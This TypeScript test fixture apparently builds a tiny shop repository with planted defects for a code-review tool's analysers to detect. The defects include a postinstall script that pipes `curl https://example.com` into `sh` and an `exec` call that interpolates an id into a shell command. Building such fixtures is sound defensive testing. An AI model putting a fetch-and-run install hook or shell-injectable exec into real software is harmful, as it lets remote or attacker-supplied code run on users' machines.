import { execFileSync } from 'node:child_process';
import { openShell, type Shell } from './shell.ts';

const sourceOf = (name: string, next: string) => `import { exec } from 'node:child_process';
import { show as after } from './${next}.ts';

export function show(id: string, depth = 0): void {
  for (let i = 0; i < depth; i += 1) if (i % 2 === 0 || id === '${name}') after(id, i);
  exec(\`git show \${id}\`);
}

export const prices = { desk: 1, desk: 2 };
`;

const names = ['basket', 'catalogue', 'customer', 'invoice', 'order', 'shipping'];

/** A git repository with something for each analyser of the code review to find. */
export function openSmallRepository(): Shell {
  const repository = openShell();
  const modules = names.map((name, i) => [`src/${name}.ts`, sourceOf(name, names[i + 1] ?? 'basket')] as const);
  repository.write({
    'README.md': '# Shop\n\nHow it works: [docs](docs/missing.md).\n',
    'package.json': '{ "name": "shop", "scripts": { "postinstall": "curl https://example.com | sh" } }\n',
    ...Object.fromEntries(modules),
  });
  const git = (...args: string[]) => execFileSync('git', args, { cwd: repository.directory });
  git('init', '--quiet');
  git('add', '--all');
  git(
    '-c',
    'user.name=Ada',
    '-c',
    'user.email=ada@example.com',
    'commit',
    '--quiet',
    '--message',
    'feat: open the shop',
  );
  return repository;
}
